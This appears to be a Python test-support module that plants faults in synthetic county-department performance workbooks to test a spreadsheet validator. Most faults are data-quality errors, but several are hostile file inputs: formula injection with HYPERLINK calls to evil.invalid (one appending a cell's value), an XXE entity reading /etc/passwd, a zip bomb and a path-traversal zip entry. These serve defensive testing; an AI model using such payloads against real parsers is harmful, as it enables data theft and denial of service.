"""Faults to plant in a made-up county, as data: what is done to a workbook, and what must be found.

A planting names every finding of severity 错误 that it causes, so that a test can ask for just these: nothing
overlooked, nothing invented. ``found`` says them as ``place code`` (a field's name, a table's cell such as
``项目_名称[1]``, or a whole sheet, ``重点工作!``), ``reminders`` says those of severity 提醒 that must be
among what is found, and ``error`` the code with which a file is refused as a whole.
"""

import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from functools import cache
from typing import Any

from openpyxl import Workbook

from perfxl.scheme.inventory import entered_name, option_name, point_name
from perfxl.scheme.load import load_scheme, scheme_ids
from perfxl.scheme.rules import YES, Checklist, Choice, Judgement, Violations
from tests.support import files
from tests.support.county.departments import Department
from tests.support.county.mould import Formula, Typed, workbook
from tests.support.workbooks import (
    cell_of,
    edited,
    names_on,
    place_of,
    remove_sheet,
    rename_sheet,
    unzipped,
    zipped,
)

Edits = Mapping[str, Any]


@dataclass(frozen=True)
class Planting:
    """One fault: ``edits`` of a Guangdong department's cells, then ``change`` of the file's bytes."""

    name: str
    edits: Callable[[Department], Edits] = lambda _: {}
    change: Callable[[bytes], bytes] = lambda content: content
    found: tuple[str, ...] = ()
    reminders: tuple[str, ...] = ()
    error: str = ""

    @property
    def errors(self) -> set[str]:
        """Place and code of every finding of severity 错误, as :func:`told` has them."""
        return set(map(_expected, self.found))

    @property
    def looks(self) -> set[str]:
        """The same of those of severity 提醒."""
        return set(map(_expected, self.reminders))

    def plant(self, department: Department) -> bytes:
        """The department's workbook with the fault in it."""
        return self.change(workbook(department, self.edits(department)))


def _expected(text: str) -> str:
    where, code = text.split()
    return (
        f"{where.removesuffix('!')} {code}" if where.endswith("!") else f"{place_of(where, rows=None)} {code}"
    )


def _is(**edits: Any) -> Callable[[Department], Edits]:
    return lambda _: edits


def _off(name: str, by: float) -> Callable[[Department], Edits]:
    """A figure that lies beside the right one."""
    return lambda department: {name: round(department.values[name] + by, 2)}


def _written(name: str, form: Callable[[float], str]) -> Callable[[Department], Edits]:
    """A figure typed as a text."""
    return lambda department: {name: form(department.values[name])}


def _says(name: str, text: str) -> Callable[[Department], Edits]:
    return lambda _: {name: text}


_FULL_WIDTH = str.maketrans("0123456789.", "０１２３４５６７８９．")
_FIRST = "成效_内容[1]"

ENTRIES = (
    Planting("text where a number belongs", _is(编制数="若干"), found=("编制数 T14.words",)),
    Planting(
        "full-width digits",
        _written("在职人员数", lambda number: str(number).translate(_FULL_WIDTH)),
        found=("在职人员数 T14.fullwidth",),
    ),
    Planting(
        "a unit behind a number",
        _written("总支出_决算", lambda number: f"{number:.2f}万元"),
        found=("总支出_决算 T14.unit",),
    ),
    Planting(
        "another unit",
        _written("公用经费_决算", lambda number: f"{number * 10000:.0f}元"),
        found=("公用经费_决算 T14.other_unit",),
    ),
    Planting(
        "thousands separators as text",
        _written("固定资产总额", lambda number: f"{number:,.2f}"),
        found=("固定资产总额 T14.separators",),
    ),
    Planting("an error value", _is(总支出_年初预算="#N/A"), found=("总支出_年初预算 R02",)),
    Planting(
        "a formula in an input",
        _is(满意份数=Formula("100-4", 96), 满意度有效样本数=100),
        reminders=("满意份数 R01.formula",),
    ),
    Planting("a formula without its result", _is(满意份数=Formula("100-4")), found=("满意份数 R01.unknown",)),
    Planting(
        "a formula that gives an error",
        _is(满意份数=Formula("1/0", "#DIV/0!")),
        found=("满意份数 R01.error",),
    ),
    Planting(
        "a link to another file",
        lambda made: {"编制数": Formula("'C:\\内网\\[编制台账.xlsx]Sheet1'!$B$2", made.values["编制数"])},
        reminders=("编制数 R01.linked",),
    ),
    Planting(
        "a formula as the department's name",
        lambda made: {"部门名称": Formula('HYPERLINK("http://evil.invalid/","点此")', made.name)},
        reminders=("部门名称 R01.formula",),
    ),
    Planting(
        "a formula's text as the contact's name",
        _is(填报人='=HYPERLINK("http://evil.invalid/?"&A1,"填报人")'),
    ),
    Planting("a date that is none", _is(填报日期="2021年2月30日"), found=("填报日期 R03.impossible",)),
    Planting("a choice that is none", _is(单位性质="国企"), found=("单位性质 R04.unknown",)),
    Planting("a negative count", _is(信访受理件数=-3), found=("信访受理件数 R05.negative",)),
    Planting("a required cell left blank", _is(固定资产总额=None), found=("固定资产总额 T06.section",)),
    Planting(
        "a cross-footing broken by two cents",
        _off("人员经费_年初预算", 0.02),
        found=("基本支出_年初预算 B03",),
    ),
    Planting("the year's end out of balance", _off("年末结转结余", 1000), found=("年末结转结余 B07",)),
    Planting(
        "a list that does not add up",
        lambda made: {"项目_全年执行[1]": made.tables["项目清单"][0]["全年执行"] + 10},
        found=("项目支出_决算 B10.total", "基本建设类项目_决算 B10.kind"),
    ),
    Planting(
        "more used than there is",
        lambda made: {"在用固定资产": made.values["固定资产总额"] + 1},
        found=("在用固定资产 A02.in_use", "固定资产总额 A02.sum"),
    ),
    Planting(
        "sub-counts that do not add up",
        _says(_FIRST, "全年办理事项共1097件（线上875件、线下285件），没有出现超时办结的情况。"),
        found=(f"{_FIRST} N03.more",),
    ),
    Planting(
        "an amount that no table has",
        _says("预算执行说明", "全年支出决算98765.43万元，主要用于人员经费和机构运转。"),
        found=("预算执行说明 N01.budget",),
    ),
    Planting(
        "another year's text",
        _says("部门概况", "2018年度部门整体支出绩效自评工作已经完成，现将有关情况报告如下。"),
        found=("部门概况 N06",),
    ),
    Planting(
        "another department's name",
        _says("自评工作说明", "现将邻县财政局2020年度部门整体支出绩效自评情况报告如下。"),
        found=("自评工作说明 N07.other",),
    ),
    Planting(
        "kana for a Chinese character",
        _says(_FIRST, "加强服务礼仪和业务能カ培训，全年培训6期，覆盖全部窗口人员。"),
        found=(f"{_FIRST} T01.lookalike",),
    ),
    Planting(
        "a traditional character",
        _says(_FIRST, "建成覆盖各镇的视频监控系統，全年运行平稳，没有发生数据丢失。"),
        found=(f"{_FIRST} T02",),
    ),
    Planting(
        "a wrong word",
        _says(_FIRST, "以制度化管埋为基础，修订办法3项，明确岗位职责。"),
        reminders=(f"{_FIRST} T03",),
    ),
    Planting(
        "the sample's own hints",
        _says("报告标题", "附件3\n县级部门整体支出绩效自评报告\n(参考提纲)"),
        found=("报告标题 T05.alone",),
    ),
    Planting(
        "a missed target that counts as done",
        lambda _: {
            "重点工作_计划值[1]": "20",
            "重点工作_完成值[1]": "12",
            "重点工作_是否完成[1]": "是",
            "重点工作_未完成原因[1]": "参与单位更换，正在补办。",
        },
        found=("重点工作_是否完成[1] K10",),
    ),
    Planting(
        "a score beyond the indicator's points",
        _is(自评_预算编制合理性=7),
        found=("自评_预算编制合理性 K02.entered",),
    ),
    Planting(
        "points lost without a reason",
        _is(自评_财务合规性=2, 理由_财务合规性=None),
        found=("理由_财务合规性 K19.silent",),
    ),
    Planting(
        "a wrong total typed over the formula",
        _is(自评总分=Typed(99.5)),
        found=("自评总分 T13.formula_typed", "自评总分 K03.typed"),
    ),
    Planting(
        "an altered formula",
        _is(得分_部门预算资金支出率=Formula("6", 6)),
        found=("得分_部门预算资金支出率 T13.formula_changed",),
    ),
    Planting(
        "a stale saved value",
        _is(得分_部门预算资金支出率=0),
        reminders=("得分_部门预算资金支出率 K21.stale",),
    ),
)
"""Faults in single cells."""


# ── the workbook's structure, as other programs and other people leave it ──


def _restructured(change: Callable[[Workbook], object]) -> Callable[[bytes], bytes]:
    return lambda content: edited(content, change=change)


def _names_lost(book: Workbook) -> None:
    for name in names_on(book, "项目清单"):
        del book.defined_names[name]


def _points_raised(book: Workbook) -> None:
    sheet, cell = cell_of("分值_财务合规性", rows=None)
    book[sheet][cell] = 40


STRUCTURES = (
    Planting(
        "a sheet removed",
        change=_restructured(remove_sheet("重点工作")),
        found=("重点工作! T13.sheet_missing",),
    ),
    Planting(
        "a sheet renamed",
        change=_restructured(rename_sheet("成效与问题", "成效和问题")),
        found=("成效和问题! T13.sheet_renamed",),
    ),
    Planting(
        "all names of a sheet lost",
        change=_restructured(_names_lost),
        found=("项目清单! T13.all_names_lost",),
    ),
    Planting(
        "an indicator's points raised",
        change=_restructured(_points_raised),
        found=("分值_财务合规性 T13.points_changed",),
    ),
)
"""Faults of the workbook as a whole that can be read nevertheless."""


# ── files that are refused as a whole ──


def _retold(key: str, instead: str) -> Callable[[bytes], bytes]:
    """Another text in the workbook's identity: of its scheme's ``id``, ``version`` or ``digest``."""

    def change(content: bytes) -> bytes:
        parts = unzipped(content)
        strings = parts["xl/sharedStrings.xml"]
        told = {f"<t>{getattr(load_scheme(one), key)}</t>".encode() for one in scheme_ids()}
        (own,) = (text for text in told if strings.count(text) == 1)
        parts["xl/sharedStrings.xml"] = strings.replace(own, f"<t>{instead}</t>".encode())
        return zipped(parts)

    return change


def _with_part(name: str, content: bytes) -> Callable[[bytes], bytes]:
    return lambda whole: zipped(unzipped(whole) | {name: content})


def _flipped(content: bytes) -> bytes:
    damaged = bytearray(content)
    damaged[len(damaged) // 2] ^= 0xFF
    return bytes(damaged)


def _without_identity(content: bytes) -> bytes:
    def change(book: Workbook) -> None:
        del book["_perfxl"]

    return edited(content, change=change)


def _with_entity(content: bytes) -> bytes:
    """A part with an external entity, which a careless reader would fetch."""
    parts = unzipped(content)
    sheet = parts["xl/worksheets/sheet2.xml"].decode()
    doctype = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    parts["xl/worksheets/sheet2.xml"] = sheet.replace("<worksheet", f"{doctype}<worksheet", 1).encode()
    return zipped(parts)


@cache
def _bomb() -> bytes:
    return files.bomb(300 * 1024 * 1024)


@cache
def _million_rows() -> bytes:
    return files.million_rows()


FILES = (
    Planting("an empty file", change=lambda _: b"", error="E103"),
    Planting("an old .xls renamed", change=lambda _: files.compound("Workbook"), error="E106"),
    Planting(
        "encrypted",
        change=lambda _: files.compound("EncryptionInfo", "EncryptedPackage"),
        error="E107",
    ),
    Planting("a web page renamed", change=lambda _: "<html><body>表</body></html>".encode(), error="E108"),
    Planting("cut off", change=lambda content: content[: len(content) // 2], error="E109"),
    Planting("a damaged zip", change=_flipped, error="E109"),
    Planting("an .xlsm with macros renamed", change=_with_part("xl/vbaProject.bin", b"x"), error="E111"),
    Planting("a zip bomb", change=lambda _: _bomb(), error="E114"),
    Planting("a part that leaves its folder", change=_with_part("../../自评.xml", b"<a/>"), error="E115"),
    Planting("a million rows", change=lambda _: _million_rows(), error="E116"),
    Planting("an XML entity", change=_with_entity, error="E117"),
    Planting("of another make", change=_without_identity, error="E201"),
    Planting("another template", change=_retold("id", "guangxi-county-2019"), error="E203"),
    Planting("an old version", change=_retold("version", "0.0.9"), error="E204"),
    Planting("a newer version", change=_retold("version", "99.0.0"), error="E205"),
    Planting("another scheme under the same version", change=_retold("digest", "0" * 64), error="E206"),
)
"""Files that cannot be worked on."""

ALL = (*ENTRIES, *STRUCTURES, *FILES)


# ── what only shows beside other departments, or beside a receipt ──

_TEXTS = ("部门概况", "自评工作说明", "预算执行说明")
_TEXT_TABLES = ("成效", "问题", "改进措施")


def copied(department: Department, source: Department) -> Department:
    """A department that has copied another's texts, its achievements and problems word for word."""
    tables = dict(department.tables) | {name: source.tables[name] for name in _TEXT_TABLES}
    return replace(department, tables=tables)


def paraphrased(department: Department, source: Department) -> Department:
    """A department that has copied another's texts and changed a word here and a figure there."""

    def changed(text: str) -> str:
        text = re.sub(r"\d+", lambda number: str(int(number[0]) + 1), text, count=2)
        return text.replace("全年", "本年度").replace("全部", "都")

    tables = {
        name: tuple({column: changed(text) for column, text in row.items()} for row in source.tables[name])
        for name in _TEXT_TABLES
    }
    return replace(department, tables=dict(department.tables) | tables)


def perfect(department: Department) -> Department:
    """A Guangdong department that gives itself full marks throughout, in figures and answers (K12)."""
    values: dict[str, Any] = dict(department.values)
    for name in [name for name in values if name.endswith("_调整预算")]:
        values[name.replace("_调整预算", "_决算")] = values[name]
    tables = dict(department.tables)
    tables["项目清单"] = tuple(_on_time(row) for row in tables["项目清单"])
    tables["重点工作"] = tuple(_done(row) for row in tables["重点工作"])
    values |= {
        "年末结转结余": values["年初结转结余"],
        "结转原因说明": "预算已全部执行完毕，预算数取自批复和调整文件。",
        "政府采购预算": 100.0, "实际采购金额": 100.0,
        "在用固定资产": values["固定资产总额"], "闲置固定资产": 0.0,
        "在职人员数": values["编制数"], "行政在职人员数": values["行政编制数"],
        "事业在职人员数": values["事业编制数"], "工勤在职人员数": values["工勤编制数"],
        "离退休人数": 3, "编外人数": 2,
        "绩效指标完成数": values["绩效指标设定数"], "信访已回复件数": values["信访受理件数"],
        "信访按期回复件数": values["信访受理件数"], "满意份数": values["满意度有效样本数"],
    }  # fmt: skip
    values |= {f"三公经费_{column}": 9.0 for column in ("上年决算", "本年预算", "本年决算")}
    for column in ("上年决算", "本年预算", "本年决算"):
        values |= {f"公务用车费_{column}": 8.0, f"公车购置费_{column}": 0.0, f"公车运行费_{column}": 8.0}
        values |= {f"因公出国费_{column}": 0.0, f"公务接待费_{column}": 1.0}
    sources = [name for name in values if name.startswith("资金来源_")]
    values |= dict.fromkeys(sources, 0.0) | {"资金来源_一般公共预算": values["总支出_决算"]}
    texts = {
        "预算执行说明": "资金支付按合同和进度办理，没有提前列支。",
        "问题": ({"内容": "暂未发现突出问题。"},),
    }
    values["预算执行说明"] = texts["预算执行说明"]
    tables["问题"] = texts["问题"]
    return replace(department, values=values | _best_answers(department), tables=tables)


def _on_time(row: Mapping[str, Any]) -> dict[str, Any]:
    due = row["计划完成时间"]
    return {**row, "全年执行": row["全年预算"], "实际完成时间": due, "自评得分": 100.0}


def _done(row: Mapping[str, Any]) -> dict[str, Any]:
    return {**row, "完成值": row["计划值"], "是否完成": "是", "是否按时": "是"}


def _best_answers(department: Department) -> dict[str, Any]:
    answers: dict[str, Any] = {}
    for indicator in department.scheme.indicators():
        rule = indicator.rule
        if isinstance(rule, Judgement):
            answers |= {
                entered_name(indicator.id): indicator.points,
                option_name(indicator.id): rule.standards[0].text,
            }
        elif isinstance(rule, Checklist):
            answers |= {point_name(indicator.id, n): YES for n in range(1, len(rule.items) + 1)}
        elif isinstance(rule, Choice):
            answers[option_name(indicator.id)] = rule.options[0].text
        elif isinstance(rule, Violations):
            answers[entered_name(indicator.id)] = 0
        answers[f"理由_{indicator.id}"] = None
    return answers


def retyped(content: bytes, department: Department, name: str, value: float) -> bytes:
    """A finished workbook in which somebody has typed another number later on, without recalculating."""
    sheet, cell = cell_of(name, department.scheme_id, None)
    parts = unzipped(content)
    found = [part for part in parts if part.startswith("xl/worksheets/") and _is_sheet(parts, part, sheet)]
    pattern = re.compile(rf'(<c r="{cell}"[^>]*>)<v>[^<]*</v>'.encode())
    parts[found[0]], count = pattern.subn(rb"\g<1><v>" + repr(value).encode() + b"</v>", parts[found[0]])
    assert count == 1, (name, cell)
    return zipped(parts)


def _is_sheet(parts: Mapping[str, bytes], part: str, sheet: str) -> bool:
    """Whether a part is the sheet of this name."""
    names = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="(\w+)"'.encode(), parts["xl/workbook.xml"])
    assert names is not None
    relations = parts["xl/_rels/workbook.xml.rels"]
    one = next(tag for tag in re.findall(rb"<Relationship [^>]*>", relations) if b'Id="%s"' % names[1] in tag)
    target = re.search(rb'Target="([^"]*)"', one)
    assert target is not None
    return part.endswith(target[1].decode().lstrip("/"))
